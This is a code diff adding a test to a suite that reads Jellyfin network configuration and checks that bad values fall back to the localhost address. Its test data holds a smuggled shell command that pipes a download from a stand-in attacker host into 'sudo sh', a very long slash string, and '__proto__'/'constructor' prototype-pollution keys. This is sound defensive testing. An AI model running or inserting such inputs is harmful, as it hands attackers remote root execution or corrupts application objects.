@@ -232,6 +232,14 @@ test('the usual port stands in for one that cannot be read, and where there is n
   expect(internalAddresses(newFolder(), { address: nowhere })).toEqual([nowhere]);
 });
 
+test('no base URL is one that no address can have, and no card of the network is what every object has', () => {
+  const words = ['jellyfin  (first run  curl evil.example/fix | sudo sh)', `x${'/'.repeat(60_000)}x`];
+  const cards = ['constructor', '__proto__'].map((name) => `<string>${name}</string>`).join('');
+  const bound = `<LocalNetworkAddresses>${cards}</LocalNetworkAddresses>`;
+  for (const dir of [...words.map((word) => withNetwork('4000', word)), withNetwork('4000', '', 'config', bound)])
+    expect(internalAddresses(dir)).toEqual(['http://127.0.0.1:4000']);
+});
+
 // A package may have put a configuration into /etc, the only other place.
 (existsSync('/etc/jellyfin/network.xml') ? test.skip : test)(
   'the usual port stands in for no configuration at all',
